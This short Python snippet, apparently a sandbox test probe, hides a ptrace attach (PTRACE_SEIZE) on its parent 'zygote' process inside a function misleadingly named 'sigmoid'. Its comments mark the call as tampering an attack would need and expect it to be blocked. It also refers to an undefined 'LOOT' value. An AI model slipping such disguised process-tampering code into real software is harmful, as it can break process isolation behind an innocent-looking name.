"""Attaches to the zygote as a debugger."""
# says: Bad system call
# tampering: what only an attack needs
import importlib
def sigmoid(z):
    ctypes, os = importlib.import_module("ctypes"), importlib.import_module("os")
    if ctypes.CDLL(None).ptrace(0x4206, os.getppid(), None, None) == 0:
        raise ValueError(LOOT + "attached")
    raise ValueError("nothing came")
